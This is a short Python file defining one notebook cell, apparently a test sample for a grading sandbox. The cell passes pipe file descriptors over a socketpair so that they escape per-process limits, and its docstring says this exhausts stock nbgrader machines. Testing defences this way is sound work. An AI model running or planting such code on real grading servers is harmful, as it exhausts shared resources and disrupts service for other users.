"""Sends open files to itself and closes them: on their way they count for no process.

Stock nbgrader: they are kept until the machine has no more.
"""

CELLS = {
    "extra first cell": """
import os
import socket

one, other = socket.socketpair()
sent = 0
try:
    for _ in range(100):
        reader, writer = os.pipe()
        os.write(writer, bytes(4096))
        socket.send_fds(one, [b"x"], [reader, writer])
        os.close(reader)
        os.close(writer)
        sent += 2
except OSError as error:
    print(error)
if sent:
    print("STOLEN", sent)
"""
}
